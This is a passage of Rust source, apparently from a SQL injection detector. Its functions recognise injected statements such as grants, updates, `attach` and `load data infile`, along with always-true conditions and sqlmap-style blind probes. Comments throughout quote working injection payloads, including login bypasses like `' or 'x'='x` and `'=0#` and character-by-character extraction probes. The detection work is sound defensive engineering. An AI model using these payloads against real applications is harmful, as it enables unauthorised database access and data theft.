        // a user variable's assignment (`set @q = 0x…`, `set @q := …`), the source of a prepared statement.
        b"set" => {
            let (scope, after) = rest_word();
            let (name, after) = word(sql_gap(after, false));
            let variable = sql_gap(rest, false).strip_prefix(b"@").map(word);
            (scope == b"global" && name.contains(&b'_') && skip(after, b" ").starts_with(b"="))
                || variable.is_some_and(|(variable, after)| {
                    let after = skip(after, b" ");
                    let value = after
                        .strip_prefix(b":=")
                        .or_else(|| after.strip_prefix(b"="))
                        .map(|value| sql_gap(value, false));
                    !variable.is_empty() && value.is_some_and(assigned_value)
                })
        }
        // MySQL's `prepare s from @q` (or a string or hex literal): a statement no signature can read, run by
        // `execute s` ("prepare them from scratch" names no variable or literal).
        b"prepare" => {
            let (name, after) = rest_word();
            let (from, after) = word(sql_gap(after, false));
            let source = sql_gap(after, false);
            !name.is_empty()
                && from == b"from"
                && (matches!(source.first(), Some(b'@' | b'\'' | b'"'))
                    || source.starts_with(b"0x"))
        }
        // SQLite's `attach [database] 'file' as name`: a new database file, written where the server can write (a
        // web root: the shell a table's text then makes).
        b"attach" => {
            let (database, after) = rest_word();
            let file = sql_gap(if database == b"database" { after } else { rest }, false);
            match file.first() {
                Some(&quote @ (b'\'' | b'"')) => {
                    let window = &file[1..file.len().min(GAP_WINDOW)];
                    memchr::memchr(quote, window)
                        .is_some_and(|close| word(sql_gap(&window[close + 1..], false)).0 == b"as")
                }
                _ => false,
            }
        }
        // MySQL's `load data [local] infile`.
        b"load" => {
            let (data, after) = rest_word();
            let (next, after) = word(sql_gap(after, false));
            data == b"data"
                && (next == b"infile"
                    || (next == b"local" && word(sql_gap(after, false)).0 == b"infile"))
        }
        _ => false,
    }
}

/// The object a `create` makes (`rest` follows the verb) and the text after its word, past what SQL writes before
/// it: `or replace`, a table's `temporary`/`temp` (maybe `global`/`local`) and PostgreSQL's `unlogged`, MySQL's
/// `aggregate` function (a UDF from a library, as `create function … soname`); and whether such a modifier stood
/// there (then only a table or a function is made: "create local user groups" is prose).
fn created_object(rest: &[u8]) -> (bool, &[u8], &[u8]) {
    let (mut rest, mut modified) = (rest, false);
    // Bounded: each modifier is written once, so a run of them longer than this is no statement.
    for _ in 0..4 {
        let (word_, after) = word(sql_gap(rest, false));
        match word_ {
            b"or" => match word(sql_gap(after, false)) {
                (b"replace", replaced) => rest = replaced,
                _ => return (modified, word_, after),
            },
            b"temporary" | b"temp" | b"global" | b"local" | b"unlogged" | b"aggregate" => {
                (rest, modified) = (after, true);
            }
            // MySQL's `definer = user` before a trigger, procedure or function (`\`root\`@\`%\``, `'a'@'b'`,
            // `current_user()`): the object follows the account.
            b"definer" => match sql_gap(after, false).strip_prefix(b"=") {
                Some(account) => rest = past_account(sql_gap(account, false)),
                None => return (modified, word_, after),
            },
            _ => return (modified, word_, after),
        }
    }
    let (kind, after) = word(sql_gap(rest, false));
    (modified, kind, after)
}

/// `text` past the MySQL account it starts with: up to a blank or `;` outside quotes, within [`GAP_WINDOW`].
fn past_account(text: &[u8]) -> &[u8] {
    let mut quote = None;
    for (at, &b) in text.iter().enumerate().take(GAP_WINDOW) {
        match quote {
            Some(q) if b == q => quote = None,
            Some(_) => {}
            None if matches!(b, b'\'' | b'"' | b'`') => quote = Some(b),
            None if b <= b' ' || b == b';' => return &text[at..],
            None => {}
        }
    }
    &text[text.len().min(GAP_WINDOW)..]
}

/// `text` past an `if not exists` it starts with (after a gap), which MySQL, PostgreSQL and SQLite take between a
/// `create`'s object and its name (`create table if not exists t (…)`); else `text`.
fn past_if_not_exists(text: &[u8]) -> &[u8] {
    let mut rest = text;
    for keyword in [&b"if"[..], b"not", b"exists"] {
        match word(sql_gap(rest, false)) {
            (found, after) if found == keyword => rest = after,
            _ => return text,
        }
    }
    rest
}

/// The identifier `text` starts with (letters, digits, `_`; maybe empty) and the text after it.
fn word(text: &[u8]) -> (&[u8], &[u8]) {
    let n = text
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    text.split_at(n)
}

/// Whether `rest` ends an SQL statement: nothing but blanks, then the end, a `;`, a comment or a NUL.
fn ends_statement(rest: &[u8]) -> bool {
    let rest = skip(rest, b" ");
    rest.is_empty()
        || [&b";"[..], b"#", b"--", b"/*", b"\0"]
            .iter()
            .any(|m| rest.starts_with(m))
}

/// The statement that `text` (what follows its first word) continues, up to [`STATEMENT_WINDOW`]: to the next `;`,
/// unless a `--` or `#` comment before it may hide one behind a line end that collapsing took away (then the whole
/// window; the reading with comments removed sees past it); and whether a full window ran out with neither (a
/// statement longer than that: the caller reads on, [`to_statement_end`]).
fn statement(text: &[u8]) -> (&[u8], bool) {
    let window = &text[..text.len().min(STATEMENT_WINDOW)];
    for (at, &b) in window.iter().enumerate() {
        match b {
            b';' => return (&window[..at], false),
            b'#' => return (window, false),
            b'-' if window.get(at + 1) == Some(&b'-') => return (window, false),
            _ => {}
        }
    }
    (window, text.len() > STATEMENT_WINDOW)
}

/// `text` up to its next `;`: a statement [`statement`] found longer than its window. Each `;` starts one such
/// reading, which ends at the next, so together they read the text about once.
fn to_statement_end(text: &[u8]) -> &[u8] {
    &text[..memchr::memchr(b';', text).unwrap_or(text.len())]
}

/// Where the SQL keyword `keyword` stands as a word in `text` (not inside an identifier: `reset`, `settings`).
fn keyword_at(text: &[u8], keyword: &[u8]) -> Option<usize> {
    memchr::memmem::find_iter(text, keyword).find(|&at| {
        let ident = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_';
        let inside = at > 0 && ident(&text[at - 1]);
        !inside && !text.get(at + keyword.len()).is_some_and(ident)
    })
}

/// Whether `; insert` (`rest` follows the verb) is an insert: `into` (after MySQL's modifiers) and, before the
/// statement ends, a source every insert names: `values`/`value`, `select`, `set`, `table` or `exec[ute]`.
fn inserts(rest: &[u8]) -> bool {
    let mut rest = skip(rest, b" ");
    loop {
        let (w, after) = word(rest);
        match w {
            b"ignore" | b"low_priority" | b"delayed" | b"high_priority" => rest = skip(after, b" "),
            b"into" => break,
            _ => return false,
        }
    }
    let (statement, cut) = statement(&rest[4..]);
    cut || [
        &b"values"[..],
        b"value",
        b"select",
        b"set",
        b"table",
        b"exec",
        b"execute",
    ]
    .iter()
    .any(|k| keyword_at(statement, k).is_some())
}

/// Whether `; update` (`rest` follows the verb) names tables and then `set` and an assignment — a `=` within
/// [`STATEMENT_WINDOW`] after it and before the statement ends, SQL Server's `col.method(`, or PostgreSQL's column
/// list (`set (a, b) = …`) — "hello; update me set later" has none. A statement longer than the window (a
/// multi-table update naming many tables) is read on to its `;` for its `set`; prose as long without `set` and an
/// assignment ("Thanks; update coming soon. …") is none.
fn update_sets(rest: &[u8]) -> bool {
    let (statement, cut) = statement(rest);
    let statement = if cut {
        to_statement_end(rest)
    } else {
        statement
    };
    let Some(set) = (0..statement.len()).find(|&at| {
        statement[at..].starts_with(b"set")
            && (at == 0 || matches!(statement[at - 1], b' ' | b'`' | b'"' | b']' | b')' | b'/'))
            && !statement
                .get(at + 3)
                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
    }) else {
        return false;
    };
    let assignment = &statement[set + 3..];
    let assignment = &assignment[..assignment.len().min(STATEMENT_WINDOW)];
    assignment.contains(&b'=')
        || memchr::memchr_iter(b'.', assignment).any(|dot| {
            let (method, after) = word(skip(&assignment[dot + 1..], b" "));
            !method.is_empty() && skip(after, b" ").starts_with(b"(")
        })
        || column_list(assignment)
}

/// Whether `text` starts with a parenthesised list of two or more names (`(a, b, c)`): PostgreSQL's `update … set
/// (a, b) = (…)`, whose `=` a long enough list puts past any window.
fn column_list(text: &[u8]) -> bool {
    let Some(list) = skip(text, b" ").strip_prefix(b"(") else {
        return false;
    };
    let Some(close) = memchr::memchr(b')', list) else {
        return false;
    };
    let names = &list[..close];
    names.contains(&b',')
        && names.split(|&b| b == b',').all(|name| {
            let name = skip_back(skip(name, b" "), b" ");
            !name.is_empty() && word(name).1.is_empty()
        })
}

/// Whether `; grant` (`rest` follows the verb) grants: a `to` before the statement ends, after an `on` (`grant all
/// privileges on *.* to …`), a privilege ([`PRIVILEGES`]), or one name or a list of them (`grant dba, admin to …`);
/// "approved; grant him access to the repo" is prose. A statement longer than [`STATEMENT_WINDOW`] is read on to
/// its `;` for its `to`, and then an `on` alone no longer makes it a grant (a kilobyte of prose holds one).
fn grants(rest: &[u8]) -> bool {
    let (statement, cut) = statement(rest);
    let (statement, to, long) = match keyword_at(statement, b"to") {
        Some(to) => (statement, to, false),
        None if cut => {
            let statement = to_statement_end(rest);
            match keyword_at(statement, b"to") {
                Some(to) => (statement, to, true),
                None => return false,
            }
        }
        None => return false,
    };
    let granted = skip_back(skip(&statement[..to], b" "), b" ");
    let first = word(granted).0;
    (!long && keyword_at(granted, b"on").is_some())
        || PRIVILEGES.contains(&first)
        || (long && LONG_GRANT_PRIVILEGES.contains(&first))
        || (!granted.is_empty()
            && granted
                .split(|&b| b == b',')
                .all(|name| !skip_back(skip(name, b" "), b" ").contains(&b' ')))
}

/// A condition injected to be always true: after a string's closing quote, or a number a value starts with (the
/// text's or one after `=`, where a numeric injection sits: `id=1 or 2=2`; "a truth table: 1 and 1 = 1" is
/// prose), `or`, `||`, `and`,
/// `&&` or `xor`, then `A = A` (or `A like A`, MySQL's `A rlike A`, `A regexp A`) for any A — `' or 'x'='x`, `'||'1'='1`, `" or 2=2`,
/// `') or ('a'='a`. The signatures list the common spellings; this finds the others. Each quote starts one short
/// look ahead, so the text is read about once.
fn tautology(text: &[u8]) -> bool {
    let quotes = QuoteParity::new(text);
    let closing = std::cell::OnceCell::new();
    let closes = |i: usize| {
        closing
            .get_or_init(|| closing_quotes(text))
            .binary_search(&i)
            .is_ok()
    };
    let calls = Calls::new(text);
    after_leading_numbers(text).any(|(end, plain, own)| {
        regexp_probe(text, end, &calls)
            || after_literal_links(&text[end..])
                .any(|rest| always_true(rest, Some(own), plain, &quotes, &calls, &|| true))
    }) || coded_leading_number(text)
        || blind_value(text, &calls)
        || case_value(text)
        || memchr::memchr2_iter(b'\'', b'"', text).any(|i| {
            after_literal_links(&text[i + 1..])
                .any(|rest| always_true(rest, None, false, &quotes, &calls, &|| closes(i)))
                || (null_test(&text[i + 1..], &quotes, &calls) && closes(i))
        })
}

/// Whether the value whose leading number ends at `end` goes on as MySQL's regular expression picked by a condition
/// (`id=1 rlike if(1=1,1,0x28)`, `id=1 regexp (case when 1=1 then 1 else 0x28 end)`), ending the statement: sqlmap's
/// RLIKE probe, whose false branch (`0x28`, an unclosed `(`) fails the query. Prose writes no `rlike`.
fn regexp_probe(text: &[u8], end: usize, calls: &Calls<'_>) -> bool {
    let rest = skip(&text[end..], b" ");
    let Some(rest) = [&b"rlike"[..], b"regexp"]
        .iter()
        .find_map(|op| rest.strip_prefix(*op))
        .filter(|r| matches!(r.first(), Some(b' ' | b'(')))
    else {
        return false;
    };
    let at = text.len() - skip(rest, b" (").len();
    if case_expression(&text[at..]) {
        return true;
    }
    let (name, after) = word(&text[at..]);
    let paren = text.len() - skip(after, b" ").len();
    if !matches!(name, b"if" | b"iif" | b"elt" | b"make_set") || text.get(paren) != Some(&b'(') {
        return false;
    }
    calls
        .close(text, paren)
        .is_some_and(|close| calls.picks_by_condition(paren, close) && chain_ends(text, close + 1))
}

/// `text`, and where the condition an injection's `and`/`or` brings may stand past the chain of literals `text`
/// starts with ([`chain_link`]: `and 1`, `or 0`), a chain changing nothing SQL reads (`id=1 and 1 and 1=1`, `' and 1
/// and 1=1--`): what follows the chain when an operator starts it (`and ascii(…)>64`), the chain's last link
/// otherwise (its literal the condition's left operand, `and 1=1`). The chain is read once, when `text` itself
/// holds no condition, within a window as every look-ahead here.
fn after_literal_links(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    let past_chain = move || {
        let window = text.len().min(1024);
        let (mut last, mut before_last) = (text, text);
        while let Some((_, _, next)) = chain_link(skip(last, b" )")) {
            if text.len() - next.len() > window {
                break;
            }
            count_reads!(LINK_READS, last.len() - next.len());
            (before_last, last) = (last, next);
        }
        // An operator after the chain starts the condition (`and ascii(…)`); anything else follows the last link's
        // literal, the condition's left operand (`and 1=1`, `and 1 between 0 and 2`).
        let operator = [&b"and"[..], b"or", b"xor", b"&&", b"||"]
            .iter()
            .any(|op| skip(last, b" )").starts_with(op));
        Some(if operator { last } else { before_last }).filter(|rest| rest.len() < text.len())
    };
    std::iter::once(text).chain(std::iter::once_with(past_chain).flatten())
}

/// Whether a value (the text's, or one after `=` that starts no comparison's operator) is a parenthesised `case when
/// … then … end`: sqlmap's probe of a sort key or a numeric value (`sort=(case when (1=1) then id else name end)`),
/// which orders or matches rows by the truth of its condition. Prose opens no parenthesis with "case when".
fn case_value(text: &[u8]) -> bool {
    memchr::memmem::find(text, b"case").is_some()
        && std::iter::once(0)
            .chain(
                memchr::memchr_iter(b'=', text)
                    .filter(|&i| !(i > 0 && matches!(text[i - 1], b'<' | b'>' | b'!' | b'=')))
                    .map(|i| i + 1),
            )
            .any(|start| {
                let value = &text[start..];
                (value.starts_with(b"(") && case_expression(&value[1..])) || bare_case(value)
            })
}

/// Whether `value` is a whole `case when C then A [else B] end` without parentheses, as SQL writes one: the
/// condition `C` a comparison or one operand (`1=1`, `id>0`, `true`, `(1=1)`), `A` and `B` one operand each (a
/// name, a number, a string, a call), and after `end` the value's end, a comment, `,`, `)` or `asc`/`desc` — sqlmap's
/// sort key `sort=case when 1=1 then id else name end`. Prose writes words where SQL writes operands: "case when it
/// rains then bring an umbrella else stay home, end of story".
fn bare_case(value: &[u8]) -> bool {
    let keyword = |text: &[u8], word: &[u8]| -> Option<usize> {
        let rest = text.strip_prefix(word)?;
        let gap = sql_gap(rest, false);
        // Glued to a `(` or a quote (`then(1)`, `then'a'`) as SQL reads it; not to a word (`endless`).
        (gap.len() < rest.len()
            || matches!(rest.first(), Some(b'(' | b'\'' | b'"'))
            || rest.is_empty())
        .then(|| text.len() - gap.len())
    };
    let Some(at) = keyword(value, b"case") else {
        return false;
    };
    let Some(when) = keyword(&value[at..], b"when") else {
        return false;
    };
    let at = at + when;
    // The condition: up to `then` within a window, a comparison or one operand.
    let window = &value[at..value.len().min(at + 1024)];
    let Some(then) = keyword_at(window, b"then") else {
        return false;
    };
    let condition = skip_back(&window[..then], b" ");
    let comparison = memchr::memchr3(b'=', b'<', b'>', condition).is_some()
        || [
            &b" like "[..],
            b" in (",
            b" is null",
            b" is not null",
            b" between ",
        ]
        .iter()
        .any(|w| memchr::memmem::find(condition, w).is_some());
    if condition.is_empty() || !(comparison || operand_end(condition) == Some(condition.len())) {
        return false;
    }
    let mut rest = &window[then..];
    let Some(then) = keyword(rest, b"then") else {
        return false;
    };
    rest = &rest[then..];
    let Some(end) = operand_end(rest) else {
        return false;
    };
    rest = sql_gap(&rest[end..], false);
    if let Some(at) = keyword(rest, b"else") {
        rest = &rest[at..];
        let Some(end) = operand_end(rest) else {
            return false;
        };
        rest = sql_gap(&rest[end..], false);
    }
    let Some(tail) = rest.strip_prefix(b"end") else {
        return false;
    };
    if tail
        .first()
        .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
    {
        return false;
    }
    let tail = sql_gap(tail, false);
    let (direction, after) = word(tail);
    let tail = if matches!(direction, b"asc" | b"desc") {
        skip(after, b" ")
    } else {
        tail
    };
    ends_statement(tail) || matches!(tail.first(), Some(b',' | b')'))
}

/// How far [`operand_end`] reads one operand: a sort key's or a `having` condition's call is short, and each quote
/// of a text may start a read.
const OPERAND_WINDOW: usize = 256;

/// Where one SQL operand at the start of `text` ends: a run without blanks, `,`, `;` or comments outside quotes and parentheses (`id`,
/// `1`, `'a b'`, `ascii(substr(pw, 1, 1))`, `(select 1)`), or `None` when `text` starts with none or it is not
/// closed within [`OPERAND_WINDOW`].
fn operand_end(text: &[u8]) -> Option<usize> {
    let window = &text[..text.len().min(OPERAND_WINDOW)];
    let (mut depth, mut quote, mut at) = (0usize, None, 0);
    while at < window.len() {
        let b = window[at];
        match quote {
            Some(q) if b == q => quote = None,
            Some(_) => {}
            None => match b {
                b'\'' | b'"' | b'`' => quote = Some(b),
                b'(' => depth += 1,
                b')' if depth == 0 => break,
                b')' => depth -= 1,
                b' ' | b',' | b';' | b'#' if depth == 0 => break,
                // A comment ends it too (`1=1--`, `min(0)/**/`).
                b'-' | b'/'
                    if depth == 0
                        && window.get(at + 1) == Some(&if b == b'-' { b'-' } else { b'*' }) =>
                {
                    break
                }
                _ => {}
            },
        }
        at += 1;
    }
    (at > 0 && depth == 0 && quote.is_none() && (at < window.len() || window.len() == text.len()))
        .then_some(at)
}

/// The quotes of `text` that end a string in some reading SQL makes of it from inside a query's string
/// ([`closes_a_string`]: opened by `'` or `"`, with or without `\` escapes), in order. A condition after a quote that
/// opens a string is inside that string ("`'x' and len(b) > 5; # note`": the query's string ends at the first quote,
/// the second opens one that runs to the end).
fn closing_quotes(text: &[u8]) -> Vec<usize> {
    let found = std::cell::RefCell::new(Vec::new());
    for query_quote in [b'\'', b'"'] {
        for escapes in [true, false] {
            closes_a_string(text, query_quote, escapes, |at| {
                found.borrow_mut().push(at);
                false
            });
        }
    }
    let mut found = found.into_inner();
    found.sort_unstable();
    found.dedup();
    found
}

/// Whether `text` (after a quote) is `is [not] null` and then a comment or an `or`/`and` and a quote left open for
/// the query's own to close: `' is not null or 'x'='y` is `u = '' is not null or …`, which MySQL reads as `(u = '')
/// is not null`, true for every row ("the 'name' is not null or 'N/A'" closes its last string).
fn null_test(text: &[u8], quotes: &QuoteParity<'_>, calls: &Calls<'_>) -> bool {
    let at = skip(text, b" ");
    let at = text.len() - at.len();
    predicate_end(text, at, b"is", calls).is_some_and(|end| {
        let after = skip(&text[end..], b" ");
        comment_after(after) || open_quote_after(after, quotes)
    })
}

/// Whether a value (the text's, or one after `=`) starts with a quote and arithmetic on the empty string it closes,
/// then a comment or the end: `'=0#` (`u = '' = 0`; blanks around the operator too, `' = 0#`), `'='` (`u = '' = ''`),
/// `'-0#` (`u = '' - 0`), `'*0*'`. MySQL and SQLite compare a name that is not a number with the result as 0, so every
/// row matches: the login bypass without `or`.
fn empty_string_arithmetic(text: &[u8]) -> bool {
    std::iter::once(0)
        .chain(memchr::memchr_iter(b'=', text).map(|i| i + 1))
        .any(|start| {
            let Some((&quote @ (b'\'' | b'"'), rest)) = text[start..].split_first() else {
                return false;
            };
            // Blanks may stand around the operator before a `0` (`' = 0-- -` is `u = '' = 0`).
            let glued = rest;
            let Some((&op, rest)) = skip(rest, b" ").split_first() else {
                return false;
            };
            let operand = skip(rest, b" ");
            // A comment, or the operator again and a quote the query's own closes (`'-0-'`): the query's quote
            // right after the `0` would leave it unclosed.
            let end = |rest: &[u8]| {
                (!rest.is_empty() && ends_statement(rest))
                    || skip(rest, b" ")
                        .strip_prefix(&[op][..])
                        .map(|r| skip(r, b" "))
                        == Some(&[quote][..])
            };
            match (op, operand) {
                (b'=', [b'0', after @ ..]) => end(after),
                // Glued only: `sep = ' = '` is code.
                (b'=', [q, after @ ..])
                    if *q == quote && glued.first() == Some(&op) && glued.get(1) == Some(q) =>
                {
                    ends_statement(after)
                }
                (b'-' | b'*' | b'^' | b'|' | b'&' | b'+' | b'%' | b'/', [b'0', after @ ..]) => {
                    end(after)
                }
                _ => false,
            }
        })
}

/// Whether an odd number of a quote stands from some point of a text to its end, answered in bounded time however
/// often it is asked: the parity of each quote before every [`QuoteParity::BLOCK`]-byte block, built once when
/// first asked (a text of `'x'or a>b or ''` repeated asked it from every quote, each count running to the end:
/// 64 KiB took 64 ms in wasm, 1 MiB 15 s).
struct QuoteParity<'a> {
    text: &'a [u8],
    /// Per block: bit 0 the parity of `'` before it, bit 1 of `"`; the last entry is the whole text's.
    blocks: std::cell::OnceCell<Vec<u8>>,
}

impl<'a> QuoteParity<'a> {
    const BLOCK: usize = 64;

    fn new(text: &'a [u8]) -> Self {
        Self {
            text,
            blocks: std::cell::OnceCell::new(),
        }
    }

    fn bit(quote: u8) -> u8 {
        if quote == b'"' {
            2
        } else {
            1
        }
    }

    /// The parity of each quote in `text[..at]`, as [`QuoteParity::blocks`]' bits.
    fn before(&self, at: usize) -> u8 {
        let blocks = self.blocks.get_or_init(|| {
            let mut parity = 0u8;
            let mut blocks = Vec::with_capacity(self.text.len() / Self::BLOCK + 2);
            for chunk in self.text.chunks(Self::BLOCK) {
                blocks.push(parity);
                for &b in chunk {
                    if b == b'\'' || b == b'"' {
                        parity ^= Self::bit(b);
                    }
                }
            }
            blocks.push(parity);
            blocks
        });
        let block = at / Self::BLOCK;
        let mut parity = blocks[block.min(blocks.len() - 1)];
        for &b in &self.text[block * Self::BLOCK..at] {
            if b == b'\'' || b == b'"' {
                parity ^= Self::bit(b);
            }
        }
        parity
    }

    /// Whether an odd number of `quote` stands in `suffix`, a suffix of the text.
    fn odd_in(&self, suffix: &[u8], quote: u8) -> bool {
        let at = self.text.len() - suffix.len();
        let total = self.before(self.text.len());
        (total ^ self.before(at)) & Self::bit(quote) != 0
    }
}

/// Whether `text` starts with an operator and a condition that always holds ([`tautology`]): a comparison of one
/// operand with itself (`=`, `==`, `<=>`, `like`), or an ordering or inequality of two literals — numbers or quoted
/// strings — that holds (`2>1`, `'a'<>'b'`; `role != guest`, `age > 18` compare names, as code and prose do),
/// operands maybe in parentheses
/// (`or(1)=(1)`); or a true operand (`true`, a number but 0) that a comment or the statement's end follows (`' or
/// true#`, `1 or 1--`), and so a literal's `in (…)`, `between … and …`, `is [not] null` or a `not` before a
/// literal (`' or 1 in (1)--`, `' or not 0--`). After a number a value starts with (`number` is `Some`, holding
/// whether the value is the text's own, [`own_value`]: `id=1 or id>0`, a numeric injection), a name's ordering is
/// one too; after a quote, a name's ordering is one when a comment
/// follows it, or an `or`/`and` and a quote left open for the query's own to close (`' or id>0 or '`).
fn always_true(
    text: &[u8],
    number: Option<bool>,
    plain: bool,
    quotes: &QuoteParity<'_>,
    calls: &Calls<'_>,
    closes: &dyn Fn() -> bool,
) -> bool {
    let after_number = number.is_some();
    let own_value = number == Some(true);
    let skip = |mut at: usize, over: &[u8]| {
        while text.get(at).is_some_and(|b| over.contains(b)) {
            at += 1;
        }
        at
    };
    let at = skip(0, b" )");
    let Some(op) = [&b"||"[..], b"&&", b"or", b"and", b"xor"]
        .into_iter()
        .find(|op| text[at..].starts_with(op))
    else {
        return false;
    };
    let after_op = at + op.len();
    if op[0].is_ascii_alphabetic()
        && text
            .get(after_op)
            .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
    {
        return false; // `order`, `android`: a word, not the operator
    }
    // A number may carry an exponent (`1e0`, `1.5e3`), which every dialect reads as a number.
    let literal = |value: &[u8], quoted: bool| {
        // SQL's unary minus and plus (`-1=-1`, `ascii(…)>-1`), which [`signed_operand`] reads.
        let value = match value.split_first() {
            Some((b'-' | b'+', digits)) if !quoted => self::skip(digits, b" "),
            _ => value,
        };
        let mantissa = value
            .iter()
            .position(|&b| b == b'e')
            .filter(|&e| {
                e > 0 && {
                    let exponent = &value[e + 1..];
                    !exponent.is_empty() && exponent.iter().all(u8::is_ascii_digit)
                }
            })
            .map_or(value, |e| &value[..e]);
        quoted
            || (mantissa.iter().any(u8::is_ascii_digit)
                && mantissa.iter().all(|b| b.is_ascii_digit() || *b == b'.'))
            // A constant expression (`1-1`, `-(-1)`, `2*3`), which SQL folds to a number, or a hexadecimal one
            // (`0x1`).
            || compound_value(value).is_some()
            || (!value.is_empty() && number_len(value) == value.len())
    };
    // A string left open to the text's end, which the query's own quote closes (`' or '1` is `'' or '1'`), is the
    // last operand: after a quote only, where a string was injected.
    let left_at = skip(after_op, b" (");
    // A `case when … then … end` expression, compared or not: the blind probe's condition (`1 and (case when
    // 1=1 then 1 else 0 end)=1`), whatever it reads.
    if case_expression(&text[left_at..]) {
        return after_number || closes();
    }
    // MySQL's `!` is `not` (`id=1 and !0`, `id=1 and !(0)`), but not `!=`.
    if after_number
        && text.get(left_at) == Some(&b'!')
        && text.get(left_at + 1) != Some(&b'=')
        && numeric_predicate(text, left_at + 1, b"not")
    {
        return true;
    }
    let open_left =
        || operand(text, left_at, false).filter(|&(_, end, quoted)| quoted && end == text.len());
    // After the `=` of arithmetic (`plain`: "2*3=6 and 2*4=8" is homework), an operand is no arithmetic of its
    // own: only a number with signs, as before constant expressions were read.
    let operand_at = |at: usize, closed: bool| {
        if plain {
            signed_number_operand(text, at, closed)
        } else {
            signed_operand(text, at, closed)
        }
    };
    // A name quoted by `` ` `` or `"` and glued to its `(` is called (`` `ascii`(…) ``, `"ascii"(…)`), as
    // [`reads_as_code`] reads `` `sleep`(5) ``: its operand is the bare name.
    // With blanks before its `(` too (`"ascii" (substring(user(),1,1))>64`: PostgreSQL calls it), but only compared
    // with a literal (or in a range) that ends the statement (maybe after a chain of literals, `… >64 and 1`), as the
    // probe's is: "the \"ascii\" (in docs) table" is prose.
    let spaced_call = || {
        let (name, end) = quoted_name(text, left_at)?;
        let paren = skip(end, b" ");
        if paren == end || text.get(paren) != Some(&b'(') {
            return None;
        }
        let close = skip(calls.close(text, paren)? + 1, b" )");
        // Or in a range (`… between 64 and 128`), an `in (…)` or a null test.
        let right_end = match comparison_at(text, close) {
            Some(comparison) => operand(text, skip(close + comparison.len(), b" ("), true)?.1,
            None => predicate_end(text, close, name, calls)?,
        };
        // Maybe after a chain of literals that keeps its truth (`… >64 and 1`).
        chain_ends(text, right_end).then_some((name, end))
    };
    // A constant expression that starts with a parenthesis (`1 and (1)/(1)=1`, `1 or (2)*(3)=6`), read whole where a
    // comparison follows it: skipping its `(` as a condition's would leave `1)/(1)` ("1 and (2)" stays prose).
    let parenthesised = || {
        let open = skip(after_op, b" ");
        if plain || text.get(open) != Some(&b'(') {
            return None;
        }
        let Some((len, _, true)) = const_expression(&text[open..]) else {
            return None;
        };
        let end = open + len;
        (!text
            .get(end)
            .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.'))
            && comparison_at(text, skip(end, b" )")).is_some())
        .then(|| (&text[open..end], end, false))
    };
    let closed_left = parenthesised()
        .or_else(|| quoted_call_name(text, left_at).map(|(name, end)| (name, end, false)))
        .or_else(|| spaced_call().map(|(name, end)| (name, end, false)))
        .or_else(|| operand_at(left_at, true));
    // A blind call after a number and arithmetic is the operand (`id=1 and 5+length(password)>0`, `' and
    // 5+length(password)>0--`).
    let (left_at, closed_left) = match closed_left {
        Some((_, end, false)) => match call_after_arithmetic(text, end, calls) {
            Some(name) => (name, operand_at(name, true)),
            None => (left_at, closed_left),
        },
        _ => (left_at, closed_left),
    };
    // Only a string left open is closed by the query's quote: a closed one at the end (`'x' or '1'`) meets that
    // quote as a doubled one, a string that never ends.
    let left_open = closed_left.is_none();
    let Some((left, mut end, left_quoted)) =
        closed_left.or_else(|| (!after_number).then(open_left).flatten())
    else {
        // A variable's `in (…)` (MySQL's `@x`, `@@version`), as a literal's: `id=1 and @x in (length(password))`.
        let name = self::skip(text[left_at..].strip_prefix(b"@").unwrap_or(b""), b"@");
        let len = name
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
        let end = text.len() - name.len() + len;
        return after_number
            && len > 0
            && literal_in_list(text, skip(end, b" )"), &text[left_at..end], b"", calls);
    };
    // A number only code spells (`~0`, `-(-1)`, `--1`) ending a numeric injection, maybe before a chain of
    // literals: `id=1 and ~0` is `id=1 and true` ("rooms 1 and 2" is prose).
    if after_number
        && !left_quoted
        && coded_number(left, true)
        && compound_value(left).is_some()
        && comparison_at(text, skip(end, b" )")).is_none()
        && chain_ends(text, end)
    {
        return true;
    }
    // After a quote, a call (`length(password)`, `ascii(substr(pw,1,1))`; blanks before its `(` too, as every
    // dialect reads `length (password)`) is compared as a name is: its parentheses read to their close, within a
    // window as every look-ahead here.
    let paren = skip(end, b" ");
    // After a number a value starts with, only SQL's functions that read data a character or a length at a time
    // (`id=1 and ascii(substr(user(),1,1))>64`): "x=1 and f(x)>2" is algebra.
    // Or any call wrapping one (`greatest(ascii(mid(user(),1,1)),0)>64`, `md5(user())>'5'`).
    let blind = !after_number || BLIND_FUNCTIONS.contains(&left) || calls.wraps_blind(text, paren);
    // Where the call's parentheses close, within a window as every look-ahead here.
    let call_end = || {
        (text.get(paren) == Some(&b'('))
            .then(|| calls.close(text, paren))
            .flatten()
            .map(|close| close + 1)
    };
    let called = !left_quoted && text.get(paren) == Some(&b'(');
    // After a number a value starts with, any other call compared with a quoted string (`id=1 and
    // md5(password)>'5'`): a column's digest or text read a character at a time, as SQL compares strings — but not
    // by `==`, which MySQL, PostgreSQL and SQL Server do not read (`x=1 and f(y)=='a'` is another language's code).
    // A number after it, "x=1 and f(x)>2", is algebra.
    if after_number && !blind && called {
        if let Some(close) = call_end() {
            let at = skip(close, b" ");
            if let Some(comparison) = comparison_at(text, at).filter(|c| *c != b"==") {
                let right = skip(at + comparison.len(), b" ");
                if matches!(text.get(right), Some(b'\'' | b'"')) {
                    return true;
                }
                // The same call on both sides of a glued comparison, ending the value (`id=1 and
                // char(97)=char(97)`): the blind probe's truth spelled without a bare literal.
                let call = &text[left_at..close];
                if text[at - 1] != b' '
                    && right == at + comparison.len()
                    && text[right..].starts_with(call)
                    && ends_statement(&text[right + call.len()..])
                {
                    return true;
                }
            }
        }
    }
    let call = blind && called && call_end().map(|close| end = close).is_some();
    // An uncompared call whose arguments read as code — a call, a string or a comparison in them — ending a
    // numeric injection (a blind function's: `id=1 and find_in_set('r',user())`, `id=1 and if(1=1,1,0)`: MySQL
    // reads the number it returns as the condition), or after a quote that ends a string before a comment or an
    // open quote, as a name's ordering (any call: the error-based probes, `' and gtid_subset(user(),1)--`,
    // `' and elt(1=1,1)--`). "page 1 and left(side)" has a word for an argument.
